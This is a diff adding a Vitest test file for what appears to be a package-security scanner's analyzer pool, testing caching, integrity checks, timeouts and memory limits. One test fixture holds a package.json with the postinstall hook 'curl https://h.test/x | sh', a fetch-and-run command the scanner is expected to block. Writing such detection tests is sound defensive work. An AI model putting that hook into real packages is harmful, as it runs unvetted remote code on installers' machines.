@@ -1,0 +1,67 @@
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, describe, expect, test } from 'vitest';
+import { AnalyzerPool, type AnalyzerTarget, defaultRulesFolder, readTarball } from '../../../src/analyze/index.js';
+import { tarballOf } from '../in-memory.js';
+
+const folder = mkdtempSync(join(tmpdir(), 'pool-'));
+const rulesFolders = [defaultRulesFolder()];
+const bytes = tarballOf([
+  {
+    path: 'package/package.json',
+    content: JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: 'curl https://h.test/x | sh' } }),
+  },
+]);
+const file = join(folder, 'a.tgz');
+writeFileSync(file, bytes);
+const integrity = readTarball(bytes).integrity;
+const target: AnalyzerTarget = { kind: 'tarball', file, integrity, source: 'registry' };
+const pools: AnalyzerPool[] = [];
+const open = (options: Partial<ConstructorParameters<typeof AnalyzerPool>[0]> = {}): AnalyzerPool => {
+  const pool = new AnalyzerPool({ rulesFolders, home: null, workers: 1, ...options });
+  pools.push(pool);
+  return pool;
+};
+afterAll(async () => {
+  await Promise.all(pools.map((pool) => pool.close()));
+});
+
+describe('AnalyzerPool', () => {
+  test('scans by path, and the second time takes the verdict from the cache', async () => {
+    const pool = open({ home: folder });
+    const first = await pool.scan(target);
+    expect([first.action, first.stats.fromCache]).toEqual(['block', false]);
+    expect((await pool.scan(target)).stats.fromCache).toBe(true);
+  });
+
+  test('bytes that are not those of the integrity reject, they get no verdict', async () => {
+    const wrong = `sha512-${Buffer.alloc(64).toString('base64')}`;
+    await expect(open().scan({ ...target, integrity: wrong })).rejects.toMatchObject({ code: 'EINTEGRITY' });
+    await expect(open().scan({ ...target, file: join(folder, 'nowhere.tgz') })).rejects.toMatchObject({
+      code: 'EREADTARGET',
+    });
+  });
+
+  test('a package that takes too long gets review with the reason, and the next one is scanned', async () => {
+    const pool = open({ timeoutMs: 1 });
+    const verdict = await pool.scan({ ...target, integrity: null });
+    expect(verdict.action).toBe('review');
+    expect(verdict.findings.map((finding) => finding.rule)).toEqual(['analyzer-limit']);
+    expect(verdict.findings[0]?.message).toMatch(/no verdict within/);
+  });
+
+  test('a worker that runs out of memory gives review, not allow', async () => {
+    const big = tarballOf([
+      {
+        path: 'package/package.json',
+        content: JSON.stringify({ name: 'a', version: '1.0.0', scripts: { postinstall: 'sh x.sh' } }),
+      },
+      { path: 'package/x.sh', content: 'a=b;\n'.repeat(700_000) },
+    ]);
+    const path = join(folder, 'big.tgz');
+    writeFileSync(path, big);
+    const verdict = await open({ heapMb: 48 }).scan({ ...target, file: path, integrity: null });
+    expect(verdict.action).toBe('review');
+  });
+});
